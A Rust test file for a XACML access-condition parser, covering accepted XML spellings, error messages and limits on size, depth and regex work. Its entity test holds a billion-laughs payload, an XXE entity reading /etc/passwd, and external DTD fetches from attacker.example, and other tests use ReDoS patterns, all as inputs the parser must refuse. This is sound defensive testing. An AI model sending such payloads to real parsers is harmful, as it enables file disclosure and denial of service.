//! Whole conditions: as people write them for a publisher, in every spelling of XML that is taken,
//! and as attackers do.

#![allow(clippy::expect_used, reason = "a panic is how a test fails")]

mod common;

use common::{HEAD, answer, condition, table};
use jiff::Timestamp;
use jiff::tz::Offset;
use xacml::{Effect, Limits, Outcome, Request, Value, parse, parse_within, request};

fn refusal(text: &str) -> String {
    parse(text).expect_err("refused").to_string()
}

fn at(moment: &str) -> Request {
    Request::at(moment.parse::<Timestamp>().expect("a moment"), Offset::UTC)
}

fn ann() -> Request {
    at("2024-02-29T10:00:00Z")
        .subject(request::SUBJECT_ID, Value::string("ann"))
        .subject(request::SUBJECT_ROLE, Value::string("staff"))
        .subject(request::ROLE_CLAIM, Value::string("staff"))
        .subject(request::ROLE_CLAIM, Value::string("editor"))
        .resource(request::RESOURCE_ID, Value::string("/reports/2024"))
        .action(request::ACTION_ID, Value::string("GET"))
}

// Only one of the roles given, as a claim: the form that the product's documentation uses most.
const ROLES: &str = r#"<Condition>
    <Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:string-at-least-one-member-of">
        <Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:string-bag">
            <AttributeValue DataType="http://www.w3.org/2001/XMLSchema#string">editor</AttributeValue>
            <AttributeValue DataType="http://www.w3.org/2001/XMLSchema#string">owner</AttributeValue>
        </Apply>
        <AttributeDesignator AttributeId="http://wso2.org/claims/role" MustBePresent="true"
            Category="urn:oasis:names:tc:xacml:1.0:subject-category:access-subject"
            DataType="http://www.w3.org/2001/XMLSchema#string"/>
    </Apply>
</Condition>"#;

#[test]
fn conditions_as_people_write_them() {
    let roles = parse(ROLES).expect("the roles");
    assert_eq!(roles.effect(), Effect::Permit);
    assert_eq!(roles.evaluate(&ann()), Outcome::True);
    assert_eq!(
        roles.evaluate(
            &at("2024-02-29T10:00:00Z").subject(request::ROLE_CLAIM, Value::string("staff"))
        ),
        Outcome::False
    );
    assert!(
        matches!(roles.evaluate(&Request::new()), Outcome::Indeterminate(why) if why.contains("http://wso2.org/claims/role"))
    );

    // A subset of roles, one user by name, a pattern of names.
    let subset =
        "(string-subset (string-bag 'staff') !string/urn:oasis:names:tc:xacml:2.0:subject:role)";
    let by_name = "(string-equal (string-one-and-only !urn:oasis:names:tc:xacml:1.0:subject:subject-id) 'ann')";
    table(
        &ann(),
        &format!(
            "T {subset}
             T (and {subset} {by_name})
             F (not {by_name})
             T (any-of #string-regexp-match '^a[a-z]*$' $urn:oasis:names:tc:xacml:1.0:subject:subject-id)
             F (string-is-in 'ann' $nobody)
             I (string-is-in 'ann' !nobody)
             I (string-is-in 'ann' !urn:oasis:names:tc:xacml:1.0:subject:subject-id-type)
             I (integer-equal (integer-one-and-only !integer/urn:oasis:names:tc:xacml:1.0:subject:subject-id) 1)"
        ),
    );
    assert!(
        parse(&condition(
            "(string-equal !urn:oasis:names:tc:xacml:1.0:subject:subject-id 'ann')"
        ))
        .is_err()
    );

    // Office hours, and one action on a part of the resources.
    let hours = r#"<Condition><Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:and">
        <Apply FunctionId="urn:oasis:names:tc:xacml:2.0:function:time-in-range">
            <Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:time-one-and-only">
                <AttributeDesignator AttributeId="urn:oasis:names:tc:xacml:1.0:environment:current-time" MustBePresent="true"
                    Category="urn:oasis:names:tc:xacml:3.0:attribute-category:environment" DataType="http://www.w3.org/2001/XMLSchema#time"/>
            </Apply>
            <AttributeValue DataType="http://www.w3.org/2001/XMLSchema#time">08:30:00</AttributeValue>
            <AttributeValue DataType="http://www.w3.org/2001/XMLSchema#time">17:00:00</AttributeValue>
        </Apply>
        <Apply FunctionId="urn:oasis:names:tc:xacml:3.0:function:string-starts-with">
            <AttributeValue DataType="http://www.w3.org/2001/XMLSchema#string">/reports/</AttributeValue>
            <Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:string-one-and-only">
                <AttributeDesignator AttributeId="urn:oasis:names:tc:xacml:1.0:resource:resource-id" MustBePresent="true"
                    Category="urn:oasis:names:tc:xacml:3.0:attribute-category:resource" DataType="http://www.w3.org/2001/XMLSchema#string"/>
            </Apply>
        </Apply>
        <Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:string-is-in">
            <AttributeValue DataType="http://www.w3.org/2001/XMLSchema#string">GET</AttributeValue>
            <AttributeDesignator AttributeId="urn:oasis:names:tc:xacml:1.0:action:action-id" MustBePresent="false"
                Category="urn:oasis:names:tc:xacml:3.0:attribute-category:action" DataType="http://www.w3.org/2001/XMLSchema#string"/>
        </Apply>
    </Apply></Condition>"#;
    let hours = parse(hours).expect("the hours");
    assert_eq!(hours.evaluate(&ann()), Outcome::True);
    let late = at("2024-02-29T17:00:01Z")
        .resource(request::RESOURCE_ID, Value::string("/reports/2024"))
        .action(request::ACTION_ID, Value::string("GET"));
    assert_eq!(hours.evaluate(&late), Outcome::False);
    // The same moment is noon where the clock is five hours behind.
    let west = Request::at(
        "2024-02-29T17:00:01Z".parse().expect("a moment"),
        Offset::from_hours(-5).expect("an offset"),
    )
    .resource(request::RESOURCE_ID, Value::string("/reports/2024"))
    .action(request::ACTION_ID, Value::string("GET"));
    assert_eq!(hours.evaluate(&west), Outcome::True);
}

#[test]
fn a_time_without_a_zone_is_of_the_place_of_the_request() {
    let moment = "2024-02-29T23:30:00Z".parse().expect("a moment");
    let there = Request::at(moment, Offset::from_hours(2).expect("an offset"));
    table(
        &there,
        "T (time-equal time:10:00:00 time:08:00:00Z)\nT (date-equal date:2024-03-01 date:2024-03-01+02:00)\nF (time-equal time:10:00:00 time:10:00:00Z)",
    );
    table(
        &Request::at(moment, Offset::UTC),
        "T (time-equal time:10:00:00 time:10:00:00Z)",
    );
}

#[test]
fn spellings_of_xml() {
    let inside = r#"<AttributeValue DataType="http://www.w3.org/2001/XMLSchema#boolean">true</AttributeValue>"#;
    let prefixed = inside.replace("AttributeValue", "x:AttributeValue");
    let space = "urn:oasis:names:tc:xacml:3.0:core:schema:wd-17";
    for text in [
        format!("<Condition>{inside}</Condition>"),
        format!("{HEAD}{inside}</Condition>"),
        format!(r#"<?xml version="1.0" encoding="UTF-8"?>{HEAD}{inside}</Condition>"#),
        format!("\u{feff}{HEAD}{inside}</Condition>\n"),
        format!("<!-- why -->{HEAD}<!-- what -->\n {inside}<?note?>\n</Condition>"),
        format!(r#"<x:Condition xmlns:x="{space}">{prefixed}</x:Condition>"#),
        format!(
            r#"{HEAD}<AttributeValue DataType="http://www.w3.org/2001/XMLSchema#boolean"> tr<!-- in -->ue </AttributeValue></Condition>"#
        ),
        format!(
            r#"{HEAD}<AttributeValue DataType='http://www.w3.org/2001/XMLSchema#boolean'><![CDATA[true]]></AttributeValue></Condition>"#
        ),
        format!(
            r#"<Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a b">{inside}</Condition>"#
        ),
        format!(
            r#"<Rule Effect="Permit" RuleId="r"><Description>Why &amp; what</Description><Target/><Condition>{inside}</Condition></Rule>"#
        ),
        format!(r#"<Rule xmlns="{space}" Effect="Permit"><Condition>{inside}</Condition></Rule>"#),
        format!(
            r#"{HEAD}<Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:and"><Description>Both</Description>{inside}</Apply></Condition>"#
        ),
    ] {
        let read = parse(&text).unwrap_or_else(|refused| panic!("{text}\n{refused}"));
        assert_eq!(
            (read.effect(), read.evaluate(&Request::new())),
            (Effect::Permit, Outcome::True),
            "{text}"
        );
    }
    let deny = parse(&format!(
        r#"<Rule Effect="Deny" RuleId="r"><Condition>{inside}</Condition></Rule>"#
    ))
    .expect("a rule");
    assert_eq!(deny.effect(), Effect::Deny);
    // Carriage returns and tabs are white space between elements.
    assert!(parse(&format!("<Condition>\r\n\t{inside}\r\n</Condition>\r\n")).is_ok());
}

#[test]
fn what_is_wrong_is_said_with_its_place() {
    let designator =
        |attributes: &str| format!("<Condition><AttributeDesignator {attributes}/></Condition>");
    let full = r#"Category="c" AttributeId="a" DataType="http://www.w3.org/2001/XMLSchema#boolean" MustBePresent="true""#;
    let boolean = r#"<AttributeValue DataType="http://www.w3.org/2001/XMLSchema#boolean">true</AttributeValue>"#;
    for (text, part) in [
        (String::new(), "no well-formed XML"),
        ("true".to_owned(), "no well-formed XML"),
        ("<Condition>".to_owned(), "no well-formed XML"),
        ("<Condition></Conditions>".to_owned(), "no well-formed XML"),
        (
            format!("<Condition>{boolean}</Condition><Condition/>"),
            "no well-formed XML",
        ),
        (
            format!("<Condition>{boolean}</Condition>trailing"),
            "no well-formed XML",
        ),
        (
            "<Condition>\n<AttributeValue>&undefined;</AttributeValue></Condition>".to_owned(),
            "no well-formed XML",
        ),
        (
            "<Condition/>".to_owned(),
            "holds one expression; this one holds 0",
        ),
        (
            format!("<Condition>{boolean}{boolean}</Condition>"),
            "this one holds 2",
        ),
        (
            format!("<Condition>{boolean} and</Condition>"),
            "holds elements, not text",
        ),
        (
            format!(r#"<Condition FunctionId="f">{boolean}</Condition>"#),
            "no attribute \"FunctionId\"",
        ),
        ("<Policy/>".to_owned(), "a whole policy is not taken"),
        ("<html/>".to_owned(), "The element \"html\" is not known"),
        (
            "<condition/>".to_owned(),
            "The element \"condition\" is not known",
        ),
        (
            r#"<Condition xmlns="urn:oasis:names:tc:xacml:2.0:policy:schema:os"/>"#.to_owned(),
            "not that of XACML 3.0",
        ),
        (
            r#"<Condition xmlns="">x</Condition>"#.to_owned(),
            "not text",
        ),
        (
            format!(
                r#"<x:Condition xmlns:x="urn:oasis:names:tc:xacml:3.0:core:schema:wd-17">{boolean}</x:Condition>"#
            ),
            "not in the namespace",
        ),
        (
            format!(
                r#"<Condition><AttributeValue xmlns="urn:oasis:names:tc:xacml:3.0:core:schema:wd-17"/>{boolean}</Condition>"#
            ),
            "not in the namespace",
        ),
        (r#"<Rule Effect="Permit"/>"#.to_owned(), "holds none"),
        (
            "<Rule><Condition/></Rule>".to_owned(),
            "Rule needs the attribute Effect",
        ),
        (
            r#"<Rule Effect="permit"><Condition/></Rule>"#.to_owned(),
            "Permit or Deny",
        ),
        (
            format!(r#"<Rule Effect="Permit"><Condition>{boolean}</Condition><Condition/></Rule>"#),
            "second one",
        ),
        (
            r#"<Rule Effect="Permit"><Target><AnyOf/></Target></Rule>"#.to_owned(),
            "Target of a partial is empty",
        ),
        (
            r#"<Rule Effect="Permit"><ObligationExpressions/></Rule>"#.to_owned(),
            "not taken in the Rule",
        ),
        (
            condition("'text'"),
            "A condition is a boolean; this expression gives a string",
        ),
        (condition("(boolean-bag true)"), "gives a bag of boolean"),
        (designator(full), "gives a bag of boolean"),
        (
            designator(&full.replace("MustBePresent=\"true\"", "")),
            "needs the attribute MustBePresent",
        ),
        (
            designator(&full.replace("=\"true\"", "=\"yes\"")),
            "MustBePresent is true or false",
        ),
        (
            designator(&full.replace("Category=\"c\"", "")),
            "needs the attribute Category",
        ),
        (
            designator(&full.replace("AttributeId=\"a\"", "AttributeId=\" \"")),
            "needs the attribute AttributeId",
        ),
        (
            designator(&full.replace("#boolean", "#bool")),
            "The data type \"http://www.w3.org/2001/XMLSchema#bool\" is not known",
        ),
        (
            designator(&format!("{full} Issuer=\"i\"")),
            "Issuer is not offered",
        ),
        (
            "<Condition><AttributeSelector/></Condition>".to_owned(),
            "AttributeSelector is not offered",
        ),
        (
            "<Condition><VariableReference/></Condition>".to_owned(),
            "VariableReference is not offered",
        ),
        (
            "<Condition><SubjectAttributeDesignator/></Condition>".to_owned(),
            "This is XACML 2.0",
        ),
        (
            "<Condition><Function FunctionId=\"f\"/></Condition>".to_owned(),
            "Function stands only in",
        ),
        (
            "<Condition><Apply/></Condition>".to_owned(),
            "Apply needs the attribute FunctionId",
        ),
        (
            "<Condition><AttributeValue/></Condition>".to_owned(),
            "AttributeValue needs the attribute DataType",
        ),
        (
            condition("(string-equal 'a' boolean:maybe)"),
            "\"maybe\" is no boolean",
        ),
        (
            condition("(string-equal 'a' 1)"),
            "string-equal takes a string as argument 2, not a integer",
        ),
        (
            condition("(string-equal 'a' $a)"),
            "string-one-and-only makes one value of a bag that holds one",
        ),
        (
            condition("(string-subset 'a' $a)"),
            "string-bag makes a bag of values",
        ),
        (
            condition("(urn:oasis:names:tc:xacml:1.0:function:string-starts-with 'a' 'b')"),
            "is urn:oasis:names:tc:xacml:3.0:function:string-starts-with",
        ),
        (
            condition("(string-like 'a' 'b')"),
            "The function \"urn:unknown:string-like\" is not offered. Offered are: (string|boolean|",
        ),
    ] {
        let refused = parse(&text).expect_err(&text);
        assert!(refused.reason.contains(part), "{text}\n{refused}");
        assert!(
            refused.reason.ends_with('.') && refused.line.is_some() && refused.column.is_some(),
            "{text}\n{refused}"
        );
    }
    assert_eq!(
        refusal(
            "<Condition>\n  <Apply FunctionId=\"urn:oasis:names:tc:xacml:1.0:function:not\"/>\n</Condition>"
        ),
        "Line 2, column 3: not takes (boolean) → boolean; here it gets 0 arguments."
    );
}

#[test]
fn entities_are_never_expanded() {
    let laughs = format!(
        r#"<!DOCTYPE Condition [<!ENTITY a "ha">{}]><Condition>&t;</Condition>"#,
        ('b'..='t')
            .map(|c| format!(
                r#"<!ENTITY {c} "{}">"#,
                format!("&{};", char::from(c as u8 - 1)).repeat(10)
            ))
            .collect::<String>()
    );
    for text in [
        laughs.as_str(),
        r#"<!DOCTYPE Condition [<!ENTITY x SYSTEM "file:///etc/passwd">]><Condition>&x;</Condition>"#,
        r#"<!DOCTYPE Condition SYSTEM "http://attacker.example/x.dtd"><Condition/>"#,
        r#"<?xml version="1.0"?><!DOCTYPE Condition [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><Condition/>"#,
    ] {
        let refused = refusal(text);
        assert!(refused.contains("document type declaration"), "{refused}");
    }
}

#[test]
fn large_deep_and_wide_texts_are_refused() {
    let apply = r#"<Apply FunctionId="urn:oasis:names:tc:xacml:1.0:function:not">"#;
    let deep = |levels: usize| {
        format!(
            "<Condition>{}{}</Condition>",
            apply.repeat(levels),
            "</Apply>".repeat(levels)
        )
    };
    // The sizes as they are, and again with the first limit out of the way.
    let wide = Limits {
        bytes: usize::MAX,
        ..Limits::default()
    };
    for (text, part) in [
        (deep(100_000), "stand inside one another"),
        (apply.repeat(100_000), "stand inside one another"),
        ("<a>".repeat(1_000_000), "stand inside one another"),
        (
            format!("<Condition>{}</Condition>", "<a/>".repeat(1_000_000)),
            "more than 10000 elements",
        ),
        (
            format!("<Condition>{}</Condition>", "<!-- -->".repeat(1_000_000)),
            "more than 10000 elements",
        ),
        (
            format!("<Condition a=\"{}\"/>", "x".repeat(10_000_000)),
            "A tag is longer",
        ),
        (
            format!("<Condition a=\"{}\"/>", "x".repeat(8_000)),
            "no attribute",
        ),
        (
            format!(
                "<Condition {}/>",
                (0..20_000)
                    .map(|index| format!("a{index}='' "))
                    .collect::<String>()
            ),
            "A tag is longer",
        ),
        (
            format!(
                "<Condition {}/>",
                (0..900)
                    .map(|index| format!("a{index}='' "))
                    .collect::<String>()
            ),
            "no attribute",
        ),
        (
            format!(
                "<Condition><AttributeValue DataType=\"{}\"/></Condition>",
                "x".repeat(8_000)
            ),
            "is not known",
        ),
        (format!("<{}/>", "x".repeat(1_000_000)), "A tag is longer"),
        (format!("<{}/>", "x".repeat(8_000)), "is not known"),
        ("<".repeat(1_000_000), "A tag is longer"),
        ("\0".repeat(1_000_000), "no well-formed XML"),
    ] {
        let refused = parse(&text).expect_err("too long");
        assert!(
            text.len() < 30_000 || refused.reason.contains("at most 30000 are taken"),
            "{refused}"
        );
        let refused = parse_within(&text, &wide).expect_err(part);
        assert!(
            refused.reason.contains(part) && refused.reason.len() < 2_000,
            "{part}: {refused}"
        );
    }
    // At the edges: 32 levels with the Condition, a thousand expressions, 32 regular expressions.
    let leaf = r#"<AttributeValue DataType="http://www.w3.org/2001/XMLSchema#boolean">true</AttributeValue>"#;
    let nested = |levels: usize| {
        format!(
            "<Condition>{}{leaf}{}</Condition>",
            apply.repeat(levels),
            "</Apply>".repeat(levels)
        )
    };
    assert!(parse(&nested(30)).is_ok());
    assert!(refusal(&nested(31)).contains("More than 32 elements"));
    let bags = |count: usize| condition(&format!("(and {})", "true ".repeat(count)));
    assert!(parse_within(&bags(999), &wide).is_ok());
    assert!(
        parse_within(&bags(1_000), &wide)
            .expect_err("too many")
            .reason
            .contains("more than 1000 expressions")
    );
    let patterns = |count: usize| {
        condition(&format!(
            "(and {})",
            "(string-regexp-match 'a' 'a') ".repeat(count)
        ))
    };
    assert!(parse(&patterns(32)).is_ok());
    assert!(refusal(&patterns(33)).contains("more than 32 regular expressions"));
    // Many classes, which are put together before they can be counted; many brackets.
    let one = |pattern: &str| condition(&format!("(string-regexp-match '{pattern}' 'a')"));
    assert!(parse(&one(&format!("[{}]", r"\w".repeat(100)))).is_ok());
    assert!(refusal(&one(&format!("[{}]", r"\w".repeat(101)))).contains("more than 100 classes"));
    assert!(refusal(&one(&r"\w\W".repeat(51))).contains("more than 100 classes"));
    assert!(
        refusal(&one(&format!("{}a{}", "(".repeat(490), ")".repeat(490))))
            .contains("cannot be read")
    );
    assert!(refusal(&one(r"\p{L}{200}")).contains("more than 400000 steps"));
    assert!(refusal(&one(&"a".repeat(1_001))).contains("longer than 1000 bytes"));
    // Large patterns, as often as there may be one.
    let large = |count: usize| {
        parse(&condition(&format!(
            "(and {})",
            r"(string-regexp-match '^[\w.\-]{1,64}@example\.com$' 'a') ".repeat(count)
        )))
    };
    assert!(large(4).is_ok());
    let refused = large(32).expect_err("too large");
    assert!(
        refused.reason.contains("come to more than 1600000 steps"),
        "{refused}"
    );
}

#[test]
fn work_is_bounded() {
    let many = (0..3_000).fold(Request::new(), |request, index| {
        request
            .subject("n", Value::integer(index))
            .subject("s", Value::string("x".repeat(2_000)))
    });
    for short in [
        "(all-of-all #integer-less-than-or-equal $integer/n $integer/n)",
        "(any-of-any #string-equal $s (string-bag 'y') $s)",
        "(any-of-any #n-of 1 (boolean-bag true false))",
        "(any-of-any #and (boolean-bag true false) (boolean-bag true false) (boolean-bag true false) false)",
        "(string-subset $s (map #string-normalize-to-lower-case $s))",
        "(integer-set-equals $integer/n (integer-union $integer/n $integer/n))",
        "(any-of #string-regexp-match '(x+x+)+y' $s)",
        "(any-of #string-regexp-match '(a?){900}y' (string-bag 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'))",
        "(any-of #string-regexp-match '(x?){900}y' (map #string-substring $s 0 (integer-multiply 3 67)))",
        "(any-of #string-regexp-match '(((x{0,30}){0,30}))y' $s)",
        "(any-of #string-regexp-match (string-concatenate '(\\w{3}\\W?){20}' 'y') $s)",
        "(any-of #string-regexp-match 'y' (map #string-concatenate '(x+x+)+' $s))",
    ] {
        let (letter, why) = answer(short, &many);
        if letter == 'I' {
            assert!(
                why.contains("more work than one decision may take")
                    || why.contains("regular expression"),
                "{short}: {why}"
            );
        }
    }
    // A pattern that only the request knows costs what it comes to, each time.
    let made = |pattern: &str, texts: &str| {
        format!(
            "(any-of #string-regexp-match (string-concatenate '{pattern}' '') (string-bag {texts}))"
        )
    };
    assert_eq!(
        answer(&made(r"^\w{90}$", "'a'"), &many),
        ('F', String::new())
    );
    let (letter, why) = answer(&made(r"^\w{90}$", "'a' 'b'"), &many);
    assert!(
        letter == 'I' && why.contains("more work than one decision may take"),
        "{why}"
    );
    assert_eq!(
        answer(&made("^[a-z]+$", "'1' '2' '3' 'a'"), &many),
        ('T', String::new())
    );
    // What people write is far from the bound.
    let usual = (0..500).fold(Request::new(), |request, index| {
        request.subject(
            "mail",
            Value::string(format!("somebody.{index}@example.com")),
        )
    });
    assert_eq!(
        answer(
            r"(any-of #string-regexp-match '^[\w.\-]{1,64}@example\.org$' $mail)",
            &usual
        )
        .0,
        'F'
    );
    assert_eq!(
        answer(
            r"(all-of #string-regexp-match '^[\w.\-]{1,64}@example\.com$' $mail)",
            &usual
        )
        .0,
        'T'
    );
    let (letter, why) = answer(
        "(all-of-all #integer-less-than-or-equal $integer/n $integer/n)",
        &many,
    );
    assert_eq!(
        (letter, why.contains("more work")),
        ('F', false),
        "the first pair that fails decides"
    );
    let (letter, why) = answer(
        "(any-of-all #integer-less-than $integer/n $integer/n)",
        &many,
    );
    assert_eq!((letter, why.contains("more work")), ('F', false), "{why}");
    let (letter, why) = answer(
        "(or (all-of-any #integer-less-than-or-equal $integer/n $integer/n) (integer-subset $integer/n $integer/n) true)",
        &many,
    );
    assert_eq!(
        (letter, why.contains("more work")),
        ('I', true),
        "what is too much work is not made up for: {why}"
    );
    // Thirteen times as long at each of the steps would be more text than there is.
    let mut grown = "'xxxxxxxxxxxxxxxx'".to_owned();
    for _ in 0..2 {
        grown = format!("(string-concatenate {})", format!("{grown} ").repeat(13));
    }
    let long = Request::new().subject("l", Value::string("x".repeat(60_000)));
    assert_eq!(
        answer(&format!("(string-contains 'x' {grown})"), &long).0,
        'T'
    );
    let (letter, why) = answer(
        "(string-contains 'x' (string-concatenate (string-one-and-only $l) (string-one-and-only $l)))",
        &long,
    );
    assert_eq!(
        (letter, why.contains("longer than 65536 bytes")),
        ('I', true)
    );
    let (letter, why) = answer("(string-regexp-match 'x' (string-one-and-only $l))", &long);
    assert_eq!(
        (letter, why.contains("longer than 8192 bytes")),
        ('I', true)
    );
}
